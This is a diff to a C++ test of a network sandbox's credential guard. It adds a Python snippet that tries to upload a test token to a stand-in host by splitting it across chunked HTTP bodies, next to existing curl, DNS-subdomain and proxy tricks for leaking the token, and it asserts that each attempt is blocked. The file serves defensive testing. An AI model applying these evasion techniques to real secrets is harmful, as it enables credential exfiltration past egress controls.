@@ -364,6 +364,23 @@ void checkCredentials(Net& n) {
       "Connection: close\\r\\n\\r\\n' \"$TEST_TOKEN\" | "
       "curl --noproxy '*' -sS --max-time 5 telnet://allowed.test:$H; "
       "getent hosts \"$(printf %s \"$TEST_TOKEN\" | cut -c1-40).other.test\"; "
+      // A chunked body: the placeholder split by chunk framing, and one
+      // byte per chunk. The control upload shows that uploads land.
+      "python3 - <<'EOF'\n"
+      "import http.client, os, ssl\n"
+      "tok = os.environ['TEST_TOKEN'].encode()\n"
+      "def put(name, chunks):\n"
+      "    c = http.client.HTTPSConnection('other.test', int(os.environ['P']), timeout=5,\n"
+      "                                    context=ssl.create_default_context())\n"
+      "    try:\n"
+      "        c.request('PUT', '/uploads/' + name, body=iter(chunks), encode_chunked=True)\n"
+      "        print(name, c.getresponse().status)\n"
+      "    except Exception as e:\n"
+      "        print(name, 'refused:', e)\n"
+      "put('control', [b'k=', b'nothing-secret'])\n"
+      "put('split', [b'k=' + tok[:10], tok[10:]])\n"
+      "put('bytes', [bytes([b]) for b in b'k=' + tok])\n"
+      "EOF\n"
       // The placeholder as a label of a name a wildcard rule allows, through
       // the explicit proxy: CONNECT, and an absolute URL.
       "curl -sS --max-time 5 -k --proxy http://127.0.0.1:15001 https://$TEST_TOKEN.wild.test:$P/; "
@@ -389,6 +406,9 @@ void checkCredentials(Net& n) {
     CHECK_FALSE(has(other, via));
   }
   CHECK_FALSE(has(n.net.accessLog("allowed.test"), "exfil-crlf"));
+  std::string uploads = n.net.uploads();
+  CHECK(has(uploads, "k=nothing-secret"));
+  CHECK_FALSE(has(uploads, "guard-tok"));
   CHECK_FALSE(has(n.net.accessLog("allowed.test"), "exfil-method"));
   CHECK_FALSE(has(n.net.accessLog("allowed.test"), "exfil-space"));
   CHECK_FALSE(has(n.net.accessLog("allowed.test"), "guard-token"));
